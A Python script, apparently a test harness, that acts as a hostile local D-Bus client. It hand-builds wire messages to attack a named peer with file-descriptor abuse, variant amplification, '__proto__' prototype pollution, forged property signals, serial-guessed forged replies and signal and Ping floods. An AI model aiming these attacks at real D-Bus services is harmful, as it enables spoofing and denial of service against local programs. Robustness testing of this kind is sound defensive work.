"""A malicious local user. It writes the D-Bus wire protocol by hand, so that nothing checks what is sent.

    hostile-client.py SOCKET_PATH VICTIM ATTACK [NUMBER]

ATTACK is the name of a function below. Prints "done" when the bus has received everything.
"""

import os
import socket
import struct
import sys

SIGNAL = 4
METHOD_CALL = 1
METHOD_RETURN = 2


def align(data, size):
    return data + b"\0" * (-len(data) % size)


def text(value):
    raw = value.encode()
    return struct.pack("<I", len(raw)) + raw + b"\0"


def message(kind, serial, fields, signature=b"", body=b""):
    array = b""
    for code, type_, value in fields + ([(8, b"g", signature)] if signature else []):
        array = align(array, 8) + bytes([code, 1]) + type_ + b"\0"
        if type_ == b"g":
            array += bytes([len(value)]) + value + b"\0"
        elif type_ == b"u":
            array += struct.pack("<I", value)
        else:
            array += text(value)
    head = b"l" + bytes([kind, 0, 1]) + struct.pack("<III", len(body), serial, len(array))
    return align(head + array, 8) + body


class Client:
    def __init__(self, path):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.file = self.socket.makefile("rb")
        self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.geteuid()).encode().hex().encode() + b"\r\n")
        assert self.file.readline().startswith(b"OK ")
        self.socket.sendall(b"BEGIN\r\n")
        self.serial = 0
        self.call("Hello")

    def send(self, kind, fields, signature=b"", body=b""):
        self.serial += 1
        self.socket.sendall(message(kind, self.serial, fields, signature, body))

    def call(self, member):
        """Calls the bus and waits for the reply. By then the bus has processed everything sent before."""
        bus = "org.freedesktop.DBus"
        self.send(METHOD_CALL, [(1, b"o", "/org/freedesktop/DBus"), (2, b"s", bus), (3, b"s", member), (6, b"s", bus)])
        while True:
            head = self.file.read(16)
            body_length, _, fields_length = struct.unpack("<III", head[4:])
            fields = self.file.read(-(-fields_length // 8) * 8)
            self.file.read(body_length)
            # Field 5, the serial replied to.
            at = fields.find(b"\x05\x01u\0")
            if head[1] in (2, 3) and struct.unpack_from("<I", fields, at + 4)[0] == self.serial:
                return

    def signal(self, victim, signature, body, interface="org.example.Test", member="Attack"):
        fields = [(1, b"o", "/test"), (2, b"s", interface), (3, b"s", member), (6, b"s", victim)]
        self.send(SIGNAL, fields, signature, body)


def descriptor(client, victim, _number):
    client.signal(victim, b"h", struct.pack("<I", 0))


def amplification(client, victim, number):
    """Variants of a byte: four bytes each on the wire."""
    client.signal(victim, b"av", struct.pack("<I", number) + b"\1y\0\7" * (number // 4))


def prototype(client, victim, _number):
    entry = text("__proto__") + b"\5a{sb}\0"
    entry = align(entry, 4)
    inner = text("polluted")
    inner = align(inner, 4) + struct.pack("<I", 1)
    entry = entry + struct.pack("<I", len(inner))
    entry = align(entry, 8) + inner
    client.signal(victim, b"a{sv}", struct.pack("<II", len(entry), 0) + entry)


def forged_properties(client, victim, _number):
    body = align(text("org.example.Test"), 4) + struct.pack("<I", 0)
    body = align(body, 8) + struct.pack("<I", 0)
    client.signal(victim, b"sa{sv}as", body, "org.freedesktop.DBus.Properties", "PropertiesChanged")


def forged_replies(client, victim, number):
    """Guesses the serials of the victim's pending calls."""
    body = text("forged")
    for serial in range(1, number + 1):
        client.send(METHOD_RETURN, [(5, b"u", serial), (6, b"s", victim)], b"s", body)


def flood(client, victim, number):
    for _ in range(number):
        client.signal(victim, b"s", text("nobody asked for this"), "org.example.Unwanted")


def ping_flood(client, victim, number):
    """Calls without ever reading the replies until all are sent."""
    peer = "org.freedesktop.DBus.Peer"
    for _ in range(number):
        client.send(METHOD_CALL, [(1, b"o", "/x"), (2, b"s", peer), (3, b"s", "Ping"), (6, b"s", victim)])


if __name__ == "__main__":
    _, path, victim, attack, *number = sys.argv
    client = Client(path)
    globals()[attack](client, victim, int(number[0]) if number else 0)
    client.call("GetId")
    print("done", flush=True)
